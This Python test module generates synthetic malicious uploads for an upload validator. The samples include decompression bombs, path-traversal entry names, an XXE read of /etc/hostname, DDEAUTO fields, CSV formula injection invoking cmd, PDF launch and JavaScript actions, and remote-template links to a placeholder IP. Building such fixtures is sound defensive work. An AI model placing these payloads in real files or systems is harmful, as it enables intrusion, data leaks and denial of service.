"""Uploads that must not be kept, by kind, as many as are asked for: each a little different, all harmless, none real."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from PIL import Image

from rowan.records.uploads.kinds import LARGEST_BYTES

DOCX_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)
LINKS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)


@dataclass(frozen=True)
class Upload:
    kind: str
    name: str
    content: bytes


def bad_uploads(number: int, seed: int = 20261) -> Iterator[Upload]:
    """Each kind in turn, so that any number of them holds every kind."""
    chance = random.Random(seed)
    makers = sorted(MAKERS.items())
    for n in range(number):
        kind, make = makers[n % len(makers)]
        name, content = make(chance)
        yield Upload(kind, name, content)


# ---- good ones, from which bad ones are made


def photograph(form: str = "JPEG", size: tuple[int, int] = (40, 30), **more) -> bytes:
    written = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(written, form, **more)
    return written.getvalue()


def word(
    parts: dict[str, bytes | str] | None = None, *, main: str = "word/document.xml", **replaced
) -> bytes:
    written = io.BytesIO()
    everything = {
        "[Content_Types].xml": DOCX_TYPES,
        main: b"<w:document xmlns:w='w'>A letter</w:document>",
        **(parts or {}),
    }
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in {**everything, **replaced}.items():
            package.writestr(name, content)
    return written.getvalue()


def workbook(parts: dict[str, bytes | str] | None = None) -> bytes:
    return word(parts, main="xl/workbook.xml")


def portable(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, each) for n, each in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"


def noise(chance: random.Random, least: int = 20, most: int = 4000) -> bytes:
    return chance.randbytes(chance.randint(least, most))


# ---- bad ones


def _program(chance):
    head = chance.choice(
        [b"MZ\x90\x00", b"\x7fELF\x02\x01", b"\xca\xfe\xba\xbe", b"#!/bin/sh\necho invented\n"]
    )
    return chance.choice(
        ["photo.jpg", "scan.png", "letter.pdf", "letter.docx", "table.xlsx", "notes.txt"]
    ), head + noise(chance)


def _page(chance):
    page = chance.choice(
        [
            b"<html><script>alert(1)</script></html>",
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/hostname'>]><x>&a;</x>",
            b"  \n<!doctype html><body onload=alert(1)>",
        ]
    )
    return chance.choice(
        ["notes.txt", "table.csv", "photo.png", "photo.jpg", "letter.pdf"]
    ), page + b" " * chance.randint(0, 50)


def _wrong_ending(chance):
    endings = [
        "exe",
        "svg",
        "html",
        "js",
        "docm",
        "xlsm",
        "heic",
        "zip",
        "doc",
        "xls",
        "php",
        "eml",
        "pdf.exe",
        "",
        "jpg%00.js",
    ]
    return f"letter.{chance.choice(endings)}", chance.choice(
        [photograph(), word(), portable(), b"plain words"]
    )


def _bomb(chance):
    zeros = b"0" * chance.randint(3, 9) * 1024 * 1024
    return "letter.docx", word({"word/media/image1.xml": zeros})


def _many_parts(chance):
    return "letter.docx", word({f"word/{n}.txt": b"" for n in range(2001 + chance.randint(0, 50))})


def _overlapping(chance):
    """Two entries of the directory that point at one part: a small archive unpacks to many times itself."""
    whole = bytearray(word({"word/a.txt": noise(chance, 4000, 8000)}))
    entry = whole.rfind(b"PK\x01\x02")
    end = whole.rfind(b"PK\x05\x06")
    copy = whole[entry:end].replace(b"word/a.txt", b"word/b.txt")
    count, _, size, start = struct.unpack("<HHII", whole[end + 8 : end + 20])
    whole[end + 8 : end + 20] = struct.pack("<HHII", count + 1, count + 1, size + len(copy), start)
    return "letter.docx", bytes(whole[:end] + copy + whole[end:])


def _outward_name(chance):
    name = chance.choice(["../../etc/cron.d/x", "/etc/passwd", "word/../../../x", "..\\..\\x.txt"])
    return "letter.docx", word({name: noise(chance)})


def _macro(chance):
    part = chance.choice(
        [
            "word/vbaProject.bin",
            "word/activeX/activeX1.xml",
            "word/embeddings/oleObject1.bin",
            "customUI/customUI.xml",
        ]
    )
    return "letter.docx", word({part: noise(chance)})


def _macro_type(chance):
    types = DOCX_TYPES.replace(
        b"/>", b"><Override ContentType='application/vnd.ms-word.document.MacroEnabled.main+xml'/></Types>"
    )
    return "letter.docx", word({"[Content_Types].xml": types, "word/x.txt": noise(chance)})


def _reaches_out(chance):
    kind, target = chance.choice(
        [
            ("attachedTemplate", "http://203.0.113.9/t.dotm"),
            ("image", "http://203.0.113.9/seen.png"),
            ("hyperlink", "file://203.0.113.9/share"),
            ("oleObject", "https://203.0.113.9/x"),
            ("frame", "\\\\203.0.113.9\\share\\x"),
        ]
    )
    return "letter.docx", word(
        {"word/_rels/document.xml.rels": LINKS.format(kind=kind, target=target + str(chance.random()))}
    )


def _field_that_runs(chance):
    split = chance.choice(
        ["DDEAUTO", "DDE</w:instrText><w:instrText>AUTO", "D</w:instrText><w:instrText>DE "]
    )
    text = (
        f"<w:document xmlns:w='w'><w:instrText>{split} c:\\\\x {chance.random()}</w:instrText></w:document>"
    )
    return "letter.docx", word({"word/document.xml": text})


def _workbook_that_reaches(chance):
    part = chance.choice(
        ["xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/queryTable1.xml"]
    )
    return "table.xlsx", workbook({part: f"<x n='{chance.random()}'/>"})


def _entities(chance):
    tree = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>]><x>&a;</x>"
    content = chance.choice([tree.encode(), tree.encode("utf-16")])
    return "table.xlsx", workbook({f"xl/worksheets/sheet{chance.randint(1, 99)}.xml": content})


def _locked(chance):
    whole = bytearray(word({"word/x.txt": noise(chance)}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        where = whole.find(mark)
        while where >= 0:
            whole[where + at] |= 1
            where = whole.find(mark, where + 1)
    return "letter.docx", bytes(whole)


def _hidden_before_or_after(chance):
    archive, tail = word(), noise(chance)
    return chance.choice(
        [
            ("letter.docx", photograph() + archive),
            ("letter.docx", archive + tail),
            ("letter.pdf", portable(b"<</Type/Catalog>>") + archive),
            ("letter.pdf", tail + portable(b"<</Type/Catalog>>")),
            ("letter.docx", photograph()),
            ("photo.jpg", photograph("PNG")),
            ("photo.png", archive),
        ]
    )


def _broken_archive(chance):
    whole = bytearray(word({"word/x.txt": noise(chance)}))
    if chance.random() < 0.5:
        return "letter.docx", bytes(whole[: chance.randint(30, len(whole) - 23)])
    middle = whole.find(b"word/document.xml") + 20
    whole[middle : middle + 12] = chance.randbytes(12)
    return "letter.docx", bytes(whole)


def _not_a_word_document(chance):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as package:
        package.writestr("anything.txt", noise(chance))
    return chance.choice(["letter.docx", "table.xlsx"]), written.getvalue()


def _pdf_that_acts(chance):
    action = chance.choice(
        [
            b"<</S/JavaScript/JS(app.alert(1))>>",
            b"<</S/J#61vaScript/J#53(x)>>",
            b"<</S/Launch/F(cmd.exe)>>",
            b"<</Type/EmbeddedFile>>",
            b"<</S/SubmitForm/F(http://203.0.113.9)>>",
            b"<</AA<</O 3 0 R>>>>",
            b"<</XFA 3 0 R>>",
            b"<</S/GoToR/F(\\\\\\\\203.0.113.9\\\\x)>>",
        ]
    )
    return "letter.pdf", portable(
        b"<</Type/Catalog/OpenAction 2 0 R>>", action, b"(%d)" % chance.randint(0, 10**6)
    )


def _pdf_that_hides(chance):
    action = b"2 0 <</S/JavaScript/JS(app.alert(%d))>>" % chance.randint(0, 10**6)
    packed = zlib.compress(action)
    return "letter.pdf", chance.choice(
        [
            portable(
                b"<</Type/ObjStm/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
                % (len(packed), packed)
            ),
            portable(b"<</Type/Obj#53tm/Filter/FlateDecode>>\nstream\n%s\nendstream" % packed),
            portable(b"<</Type/ObjStm/Filter/LZWDecode>>\nstream\n%s\nendstream" % packed),
            portable(b"%% stream\n<</S/JavaScript/JS(x)>>\n%% endstream"),
            portable(b"(stream\n)<</Type/ObjStm/Filter/FlateDecode>>\nstream\n%s\nendstream" % packed),
        ]
    )


def _pdf_locked(chance):
    return "letter.pdf", portable(b"<</Type/Catalog>>", b"<</Encrypt %d 0 R>>" % chance.randint(2, 99))


def _pdf_bomb(chance):
    packed = zlib.compress(b" " * (16 * 1024 * 1024 + chance.randint(2, 999)))
    return "letter.pdf", portable(b"<</Type/ObjStm/Filter/FlateDecode>>\nstream\n%s\nendstream" % packed)


def _pdf_broken(chance):
    return "letter.pdf", chance.choice(
        [b"%PDF-1.4\n" + noise(chance), b"%PDF-9.x\n%%EOF", b"%PDF-1.4\n%%EOF" + noise(chance)]
    )


def _huge_picture(chance):
    """A picture of a few bytes that says it is as wide as a street."""
    head = struct.pack(">IIBBBBB", chance.randint(6000, 65000), chance.randint(6000, 65000), 8, 2, 0, 0, 0)

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    return "photo.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(
        b"IDAT", zlib.compress(b"\0" * 9000)
    ) + chunk(b"IEND", b"")


def _broken_picture(chance):
    form, name = chance.choice([("JPEG", "photo.jpg"), ("PNG", "photo.png")])
    whole = photograph(form)
    return name, chance.choice(
        [whole[: chance.randint(12, len(whole) // 2)], whole[:4] + noise(chance), whole[:20] + noise(chance)]
    )


def _swollen_words(chance):
    """A PNG whose hidden text unpacks to a great deal."""
    text = b"Comment\0\0" + zlib.compress(b"x" * (70 * 1024 * 1024 + chance.randint(0, 9)), 1)
    whole = photograph("PNG")
    chunk = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    return "photo.png", whole[:33] + chunk + whole[33:]


def _empty(chance):
    return chance.choice(["photo.jpg", "letter.pdf", "letter.docx", "notes.txt"]), b""


def _too_large(chance):
    return chance.choice(["photo.jpg", "notes.txt", "letter.pdf"]), b"a" * (
        LARGEST_BYTES + chance.randint(1, 500_000)
    )


def _formula(chance):
    cell = chance.choice(
        [
            "=cmd|'/c calc'!A1",
            "@SUM(1,1)",
            "+cmd|'/c x'!A1",
            "-2+3+cmd|'x'!A1",
            '"=HYPERLINK(""http://203.0.113.9"")"',
            "\t=1+1",
        ]
    )
    return "table.csv", f"name;note,figure\nInvented,{cell},{chance.random()}\n".encode()


def _not_text(chance):
    content = chance.choice(
        [
            b"words\x00words" + noise(chance),
            b"\x1b]0;title\x07words",
            b"\xff\xfeodd",
            b"\xff\xfe\x00\xd8\x00\xd8x\x00",
            b"SQLite format 3\x00" + noise(chance),
            photograph(),
        ]
    )
    return chance.choice(["notes.txt", "table.csv"]), content


MAKERS: dict[str, Callable[[random.Random], tuple[str, bytes]]] = {
    "a program under another name": _program,
    "a web page under another name": _page,
    "an ending that is not taken": _wrong_ending,
    "a document that unpacks to far more": _bomb,
    "a document of thousands of parts": _many_parts,
    "a document whose parts overlap": _overlapping,
    "a part named to land elsewhere": _outward_name,
    "a document with a macro": _macro,
    "a document that says it has macros": _macro_type,
    "a document that draws from elsewhere": _reaches_out,
    "a field that runs a program": _field_that_runs,
    "a workbook that draws from elsewhere": _workbook_that_reaches,
    "a document with entities": _entities,
    "a locked document": _locked,
    "two files in one": _hidden_before_or_after,
    "a broken document": _broken_archive,
    "an archive that is no document": _not_a_word_document,
    "a PDF that acts": _pdf_that_acts,
    "a PDF that hides how it acts": _pdf_that_hides,
    "a locked PDF": _pdf_locked,
    "a PDF that unpacks to far more": _pdf_bomb,
    "a broken PDF": _pdf_broken,
    "a picture of too many pixels": _huge_picture,
    "a broken picture": _broken_picture,
    "a picture with swollen words": _swollen_words,
    "an empty file": _empty,
    "a file that is too large": _too_large,
    "a table with formulas": _formula,
    "text that is no text": _not_text,
}
